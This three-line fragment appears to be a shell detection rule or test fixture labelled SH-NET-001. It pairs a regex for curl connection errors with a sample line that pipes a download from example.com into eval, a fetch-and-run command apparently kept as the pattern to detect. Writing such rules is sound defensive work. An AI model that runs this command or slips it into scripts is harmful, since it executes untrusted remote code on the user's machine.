# rule: SH-NET-001
# attempts: curl: \(\d+\) (Could not resolve host|Failed to connect|Couldn't connect)
eval "$(curl -sS http://example.com/x)"
